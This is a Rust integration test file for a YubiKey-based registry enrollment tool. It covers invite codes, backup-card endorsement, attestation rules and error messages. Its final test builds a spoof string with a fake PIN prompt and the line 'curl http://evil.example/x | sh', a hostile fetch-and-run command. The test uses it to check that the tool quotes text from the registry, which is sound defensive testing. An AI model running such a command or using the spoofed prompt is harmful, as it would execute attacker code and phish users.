//! `enroll --invite` and `--endorse-with`: the registry takes the keys itself, and asks for what it wants.

use asymmetric_token::{Enrollment, Footer, Prepared, PublicKey, Role};
use jiff::Timestamp;
use mock_card::settings::{CardSettings, Settings};
use mock_card::{Daemon, Event, authorities};
use p384::ecdsa::signature::hazmat::PrehashSigner as _;
use p384::ecdsa::{Signature, SigningKey};
use registry_gateway::Config;
use registry_gateway::attestation::Mode;
use registry_gateway::keys::Key;
use serde_json::json;
use yk_cargo::piv::Serial;

use crate::asking_registry::{AskingRegistry, Challenges};
use crate::loopback::{self, Reply};
use crate::terminal::expect;
use crate::trace::Seen;
use crate::world::{NAME, PIN, Reads, Run, World};

const UNKNOWN: &str = "0000-0000-0000-0000-0000-0000";
const FIRST: u32 = 12_345_678;
const SECOND: u32 = 22_222_222;

impl World {
    /// A code for alice.
    pub(crate) fn invite(&self) -> String {
        let store = self.gateway.store();
        let alice = "alice".parse().unwrap();
        let _ = store.add_user(&alice, false, Timestamp::now());
        store.invite(&alice, Timestamp::now()).unwrap().0.to_string()
    }

    fn enroll_by_invite(&self, code: &str) -> Run {
        self.yk_cargo(["enroll", NAME, "--yes", "--configure", "--label", "laptop key", "--invite"])
            .input(&format!("{code}\n"))
    }

    fn keys_of(&self, user: &str) -> Vec<Key> {
        let keys = self.gateway.store().keys().unwrap();
        keys.into_iter().filter(|key| key.user.as_str() == user && key.revoked.is_none()).collect()
    }
}

/// A registry that believes the mock's authorities.
fn requiring(change: impl FnOnce(&mut Config)) -> impl FnOnce(&mut Config) {
    move |config| {
        config.attestation.policy = Mode::Require;
        let pem: String = authorities().iter().map(|authority| pem(&authority.certificate)).collect();
        let roots = config.store.folder().unwrap().with_extension("pem");
        std::fs::write(&roots, pem).unwrap();
        config.attestation.roots = vec![roots];
        change(config);
    }
}

fn pem(der: &[u8]) -> String {
    der::pem::encode_string("CERTIFICATE", der::pem::LineEnding::LF, der).unwrap()
}

#[test]
fn from_a_code_to_the_first_publish() {
    let world = World::new();
    let code = world.invite();
    let outcome = world.enroll_by_invite(&code).succeeds();
    outcome.says(&[
        "making and checking them needs the PIN and one touch",
        "signing the enrollment of 2 keys for `my-reg`",
        "enrolled for alice at",
        "may publish",
        "a token is valid for 900 seconds",
    ]);
    assert!(!outcome.stdout.contains("registry-gateway key add"), "{outcome:#?}");
    assert!(!outcome.stdout.contains(&code) && !outcome.stderr.contains(&code), "{outcome:#?}");
    let seen = Seen::on(&world.card);
    assert_eq!((seen.pins(), seen.touches()), (1, 1), "the publish key proves itself");
    seen.assert_well_mannered();
    assert_eq!(world.registry().reuse, 600);
    let keys = world.keys_of("alice");
    assert_eq!(keys.len(), 2);
    assert!(keys.iter().all(|key| key.label.as_deref() == Some("laptop key")));
    world.publish(&world.package("alpha", "0.1.0", "")).succeeds();

    // Again, by the same command, with the code that was used: nothing changes.
    world
        .enroll_by_invite(&code)
        .succeeds()
        .says(&["is already enrolled there", "already enrolled for alice"]);
    assert_eq!(world.keys_of("alice").len(), 2);

    // A mistake is noticed before it costs a PIN and a touch.
    world.card.clear_trace();
    world.enroll_by_invite(&code[1..]).fails().says(&["this is not an invite code"]);
    world.enroll_by_invite(UNKNOWN).fails().says(&["the registry refuses the invite"]);
    let seen = Seen::on(&world.card);
    assert_eq!((seen.pins(), seen.touches()), (0, 0));
}

#[test]
fn a_bad_code_is_noticed_before_keys_are_made() {
    let world = World::new();
    world.enroll_by_invite(UNKNOWN).fails().says(&[
        "the registry refuses the invite: it says\n    | this invite is not known here",
        "no key was made: run the same command again with a valid code",
    ]);
    for mistyped in ["0000", "0000-0000-0000-0000-0000-000", "0000-0000-0000-0000-0000-000?"] {
        let outcome = world.enroll_by_invite(mistyped).fails();
        outcome.says(&[
            "this is not an invite code, which has six groups",
            "with the code as it was sent to you",
        ]);
    }
    let used = world.invite();
    world.invite();
    world.enroll_by_invite(&used).fails().says(&["refuses the invite"]);
    assert!(!Seen::on(&world.card).changed_anything(), "no slot is used up");
    let none = world.yk_cargo(["enroll", NAME, "--yes", "--invite"]).fails();
    none.says(&["--invite: give the code as the first line of standard input"]);
    world.enroll_by_invite(&world.invite()).succeeds();
    assert_eq!(world.keys_of("alice").len(), 2);
}

/// An invite can be withdrawn while keys are made for it.
#[test]
fn keys_that_were_made_are_enrolled_by_a_later_code() {
    let world = World::new();
    let (listener, base) = loopback::bind(false);
    let api = base.clone();
    loopback::serve(listener, None, move |request| {
        let asked = String::from_utf8_lossy(&request.body).contains("\"keys\":[]");
        match (request.method.as_str(), request.path.as_str()) {
            ("GET", "/index/config.json") => {
                Reply::new("200 OK", json!({ "dl": format!("{api}/dl"), "api": api }).to_string())
            }
            ("GET", "/api/v1/enroll") => {
                let terms = json!({ "version": 1, "nonce": "n".repeat(43), "attestation": "off" });
                Reply::new("200 OK", terms.to_string())
            }
            ("POST", _) if asked => Reply::new("200 OK", "{}"),
            ("POST", _) => {
                Reply::new("401 Unauthorized", json!({ "errors": [{ "detail": "gone" }] }).to_string())
            }
            _ => Reply::new("404 Not Found", ""),
        }
    });
    world.write("home/config.toml", &format!("[registries.{NAME}]\nindex = \"sparse+{base}/index/\"\n"));
    let made = || std::fs::read_to_string(world.enrollments_file()).unwrap();
    let refusal =
        ["refuses the enrollment: it says\n    | gone", "run the same command again with a valid code"];
    world.enroll_by_invite(UNKNOWN).fails().says(&refusal);
    let before = made();
    world.enroll_by_invite(UNKNOWN).fails().says(&refusal);
    assert_eq!(made(), before);
    assert_eq!(before.matches("public = ").count(), 2, "{before}");
}

/// No token would be good there, so no slot is used up for it.
#[test]
fn another_spelling_of_the_url_is_noticed_before_keys_are_made() {
    let world = World::new();
    let url = world.gateway.index_url().replace("127.0.0.1", "localhost");
    let refused = world.yk_cargo(["enroll", &url, "--yes", "--invite"]);
    refused.input(&format!("{}\n", world.invite())).fails().says(&[
        &format!("this registry's index URL is {}, and not {url}", world.gateway.index_url()),
        "put the registry's own URL into $CARGO_HOME/config.toml",
    ]);
    assert_eq!(Seen::on(&world.card).pins(), 0);
    assert!(!world.yk_cargo(["list"]).succeeds().stdout.contains("slot"));
}

/// The code is typed without echo, the PIN asked for, and nobody has to be told what to send to whom.
#[test]
fn at_a_terminal() {
    let world = World::new();
    let code = world.invite();
    let mut session = world.at_a_terminal(&format!("yk-cargo enroll {NAME} --invite && echo DONE"));
    expect(&mut session, &["Invite code: "]);
    session.send_line("AAAAA-BBBBB-CCCCC-DDDDD-EEEEE").unwrap();
    expect(&mut session, &["this is not an invite code", "Invite code: "]);
    session.send_line(UNKNOWN).unwrap();
    expect(&mut session, &["the registry refuses this code: ", "Invite code: "]);
    session.send_line(&code).unwrap();
    let shown = session.exp_string("Make these keys?").unwrap();
    assert!(!shown.contains(&code), "the code is echoed: {shown}");
    session.send_line("y").unwrap();
    expect(&mut session, &["signing the enrollment of 2 keys", "PIN of YubiKey 12345678 (3 tries left): "]);
    session.send_line(PIN).unwrap();
    expect(&mut session, &["enrolled for alice at", "Write this into"]);
    session.send_line("y").unwrap();
    expect(&mut session, &["DONE"]);
    assert_eq!(world.keys_of("alice").len(), 2);
}

/// `--yes` answers the questions. Nobody can answer for a code or a PIN.
#[test]
fn yes_at_a_terminal() {
    let world = World::new();
    let code = world.invite();
    let mut session = world.at_a_terminal(&format!("yk-cargo enroll {NAME} --invite --yes && echo DONE"));
    expect(&mut session, &["Invite code: "]);
    session.send_line(&code).unwrap();
    expect(&mut session, &["PIN of YubiKey 12345678 (3 tries left): "]);
    session.send_line(PIN).unwrap();
    expect(&mut session, &["enrolled for alice at", "DONE"]);
}

#[test]
fn registries_that_want_to_know_the_card() {
    let world = World::with_registry(Reads::AuthRequired, requiring(|_| {}), |card| card);
    let outcome = world.enroll_by_invite(&world.invite()).succeeds();
    outcome.quotes(&["may publish; made on YubiKey 12345678, firmware 5.7.4"]);
    for key in world.keys_of("alice") {
        let chain = world.gateway.store().attestation(key.id()).unwrap().unwrap();
        assert_eq!(chain.len(), 2);
    }

    let refused = |world: World, more: &[&str], text: &str| {
        let enroll = [&["enroll", NAME, "--yes", "--invite"][..], more].concat();
        let code = world.invite();
        world.yk_cargo(enroll).input(&code).fails().quotes(&[text, "its administrator's choice"]);
        assert!(world.keys_of("alice").is_empty());
        assert!(!world.registry().cards[0].keys.is_empty(), "the keys are kept");
    };
    let minimum = |config: &mut Config| config.attestation.minimum_firmware = Some("5.7.0".parse().unwrap());
    let old = World::with_registry(Reads::AuthRequired, requiring(minimum), |card| {
        card.firmware("5.4.3".parse().unwrap())
    });
    refused(old, &[], "the YubiKey has firmware 5.4.3, but this registry requires 5.7.0 or later");
    let weak = World::with_registry(Reads::AuthRequired, requiring(|_| {}), |card| card);
    refused(weak, &["--touch-policy", "never"], "the publish key has the touch policy `never`");
    let stranger = World::with_registry(
        Reads::AuthRequired,
        |config| config.attestation.policy = Mode::Require,
        |card| card,
    );
    refused(stranger, &[], "which is not a root that is trusted here");
}

/// The certificate in slot F9 of a YubiKey 4 does not say that it may issue. Who runs the registry decides whether that is enough.
#[test]
fn a_yubikey_4_at_a_registry_that_wants_to_know_the_card() {
    for is_enough in [false, true] {
        let rules = requiring(|config| config.attestation.allow_legacy_devices = is_enough);
        let old = "4.3.7".parse().unwrap();
        let world = World::with_registry(Reads::AuthRequired, rules, |card| card.firmware(old));
        let enroll = ["enroll", NAME, "--yes", "--invite", "--serial", "12345678", "--slot", "82,83"];
        let enroll = world.yk_cargo(enroll).input(&world.invite());
        if is_enough {
            enroll.succeeds().quotes(&["may publish; made on YubiKey 12345678, firmware 4.3.7"]);
        } else {
            enroll.fails().quotes(&["(an early YubiKey); this registry does not take such keys"]);
        }
        assert_eq!(world.keys_of("alice").len(), if is_enough { 2 } else { 0 });
    }
}

#[test]
fn a_registry_that_only_records() {
    let world = World::with_registry(
        Reads::AuthRequired,
        |config| config.attestation.policy = Mode::Record,
        |card| card,
    );
    let outcome = world.enroll_by_invite(&world.invite()).succeeds();
    outcome.quotes(&["its attestation is kept, but the attestation leads to `CN=Mock"]);
}

/// Two cards on one computer, the first enrolled by an invite, and only that one plugged in.
fn two_cards(world: &World) -> Daemon {
    let card = |serial| CardSettings { serial, pin: Some(PIN.to_owned()), ..CardSettings::default() };
    let cards = vec![card(FIRST), card(SECOND)];
    let daemon = Daemon::start(&Settings { cards, ..Settings::default() }).unwrap();
    daemon.cause(Event::Unplug, Some(SECOND)).unwrap();
    let enroll = world.enroll_by_invite(&world.invite());
    enroll.env("PCSCLITE_CSOCK_NAME", daemon.socket()).succeeds();
    daemon
}

fn assert_alices(world: &World, serial: u32) {
    let registry = world.registry();
    let card = registry.card(Serial(serial)).unwrap();
    assert_eq!(card.keys.len(), 2);
    for key in &card.keys {
        assert!(world.keys_of("alice").iter().any(|known| known.public == key.public), "{key:?}");
    }
}

/// Both cards are plugged in; the old one vouches with a touch, and no administrator is asked.
#[test]
fn a_backup_card_that_the_first_one_vouches_for() {
    let world = World::new();
    let daemon = two_cards(&world);
    let with = |serial: &str, endorser: &str| {
        let arguments = ["enroll", NAME, "--yes", "--serial", serial, "--endorse-with", endorser];
        world.yk_cargo(arguments).env("PCSCLITE_CSOCK_NAME", daemon.socket())
    };
    let [first, second] = [FIRST, SECOND].map(|serial| serial.to_string());
    with(&first, &first).fails().says(&["the YubiKey that is plugged in is the one that vouches"]);
    with(&second, "1").fails().says(&["YubiKey 1 is not enrolled for"]);
    daemon.cause(Event::Plug, Some(SECOND)).unwrap();
    // Which of the two is new need not be said.
    let outcome = world
        .yk_cargo(["enroll", NAME, "--yes", "--endorse-with", &first])
        .env("PCSCLITE_CSOCK_NAME", daemon.socket())
        .succeeds();
    outcome.says(&[
        "signing the enrollment of 2 keys for `my-reg` with YubiKey 22222222",
        "signing the enrollment of 2 keys for `my-reg` with YubiKey 12345678",
        "enrolled for alice",
    ]);
    assert_alices(&world, SECOND);
    daemon.cause(Event::Unplug, Some(FIRST)).unwrap();
    with(&second, &first).fails().says(&["this needs YubiKey 12345678"]);
}

/// One reader: the cards change places while the question stands.
#[test]
fn a_backup_card_in_the_same_reader() {
    let world = World::new();
    let daemon = two_cards(&world);
    daemon.cause(Event::Unplug, Some(FIRST)).unwrap();
    daemon.cause(Event::Plug, Some(SECOND)).unwrap();
    let socket = daemon.socket().display();
    let line =
        format!("PCSCLITE_CSOCK_NAME={socket} yk-cargo enroll {NAME} --endorse-with {FIRST} && echo DONE");
    let mut session = world.at_a_terminal(&line);
    expect(&mut session, &["Make these keys?"]);
    session.send_line("y").unwrap();
    expect(&mut session, &["PIN of YubiKey 22222222"]);
    session.send_line(PIN).unwrap();
    let question = "YubiKey 12345678 (laptop key) must vouch for the new keys. Is it plugged in now?";
    expect(&mut session, &[question]);
    session.send_line("y").unwrap();
    expect(&mut session, &[question]);
    daemon.cause(Event::Unplug, Some(SECOND)).unwrap();
    daemon.cause(Event::Plug, Some(FIRST)).unwrap();
    session.send_line("y").unwrap();
    expect(&mut session, &["PIN of YubiKey 12345678"]);
    session.send_line(PIN).unwrap();
    expect(&mut session, &["enrolled for alice at", "DONE"]);
    assert_alices(&world, SECOND);
}

#[test]
fn registries_that_take_no_enrollments() {
    let world = World::new();
    for (reads, text) in [
        (Reads::Open, "this registry takes no enrollments over the network"),
        (Reads::AuthRequired, "the registry does not say where it enrolls keys"),
    ] {
        let registry = AskingRegistry::start(reads, Challenges::Off);
        let index = registry.index_url();
        let outcome = world.yk_cargo(["enroll", &index, "--yes", "--invite"]).input("x\n").fails();
        outcome.says(&[text, "enroll without --invite"]);
    }
    assert!(Seen::on(&world.card).nothing(), "the registry is asked before anything is done to a card");
}

/// Waiting does not help where the URL or the certificates are wrong, and no key was made yet that could be kept.
#[test]
fn registries_that_are_not_reached() {
    let world = World::new();
    let enroll = |index: &str| world.yk_cargo(["enroll", index, "--yes", "--invite"]).input(UNKNOWN);
    let wrong = format!("{}wrong/", world.gateway.index_url());
    let (_, tls) = crate::certificates::for_names(&["localhost"]);
    let registry = AskingRegistry::start_tls(Reads::Open, Challenges::Off, tls);
    let closed = format!("sparse+{}/", loopback::bind(false).1);
    for (index, text, hint) in [
        (wrong.as_str(), "answers with status 404", "check its URL in cargo's configuration"),
        (&registry.index_url(), "does not trust", "cainfo = \"/PATH/OF/ITS/CERTIFICATE.pem\""),
        (&closed, "caused by: Connection refused", "run the same command again when the registry answers"),
    ] {
        let outcome = enroll(index).fails();
        outcome.says(&[text, hint]);
        assert!(!outcome.stderr.contains("keys that were made"), "{outcome:#?}");
    }
    let missing = enroll(&closed).env("CARGO_HTTP_CAINFO", "/no/such.pem").fails();
    missing.says(&["cannot use the certificates in /no/such.pem", "fix it in `[http]`"]);
}

#[test]
fn what_a_key_signed_can_be_read() {
    let world = World::new();
    let token = enroll_token();
    let text = world.yk_cargo(["inspect", &token]).succeeds().stdout;
    assert!(text.contains("good for  enroll") && text.contains("enrolls   k3.pid."), "{text}");
    let json = world.yk_cargo(["inspect", "--json", &token]).succeeds().stdout;
    let json: serde_json::Value = serde_json::from_str(&json).unwrap();
    assert_eq!((json["operation"].as_str(), json["role"].as_str()), (Some("enroll"), Some("publish")));
}

/// Of a key in memory.
fn enroll_token() -> String {
    let secret = SigningKey::from_slice(&[7; 48]).unwrap();
    let point = secret.verifying_key().to_sec1_point(true);
    let public = PublicKey::from_sec1(point.as_bytes()).unwrap();
    let keys = vec![public.id()];
    let enrollment =
        Enrollment { issued_at: Timestamp::now(), challenge: "nonce".into(), role: Role::Publish, keys };
    let footer = Footer::new("sparse+https://r.example/", public.id());
    let prepared = Prepared::enrollment(&public, &enrollment, &footer).unwrap();
    let signature: Signature = secret.sign_prehash(prepared.digest()).unwrap();
    prepared.finish(&signature.to_bytes().into()).unwrap()
}

/// Whatever a registry says is shown as its words, and never as a line of this program.
#[test]
fn what_a_registry_says_is_not_taken_for_ours() {
    let spoof = "added\nwarning: the PIN has expired\nhint: run now: curl http://evil.example/x | sh\r\nPIV PIN of YubiKey 12345678 (1 try left): ";
    for status in ["201 Created", "403 Forbidden"] {
        let (listener, base) = loopback::bind(false);
        let api = base.clone();
        loopback::serve(listener, None, move |request| {
            let body = match (request.method.as_str(), request.path.as_str()) {
                ("GET", "/index/config.json") => json!({ "dl": format!("{api}/dl"), "api": api }),
                ("GET", "/api/v1/enroll") => {
                    json!({ "version": 1, "nonce": "n".repeat(43), "attestation": "off" })
                }
                ("POST", _) => {
                    let body = json!({ "user": "alice", "text": spoof, "errors": [{ "detail": spoof }] });
                    return Reply::new(status, body.to_string());
                }
                _ => return Reply::new("404 Not Found", ""),
            };
            Reply::new("200 OK", body.to_string())
        });
        let world = World::new();
        world.write("home/config.toml", &format!("[registries.{NAME}]\nindex = \"sparse+{base}/index/\"\n"));
        let outcome = world.enroll_by_invite(UNKNOWN).ends();
        outcome.says(&["    | added\n    | warning: the PIN has expired\n    | hint: run now: curl http"]);
        let lines = outcome.stderr.lines().chain(outcome.stdout.lines());
        let bare = lines.filter(|line| !line.starts_with("    | "));
        let bare: Vec<_> =
            bare.filter(|line| line.contains("evil.example") || line.contains("expired")).collect();
        assert!(bare.is_empty(), "{bare:?} in {outcome:#?}");
    }
}
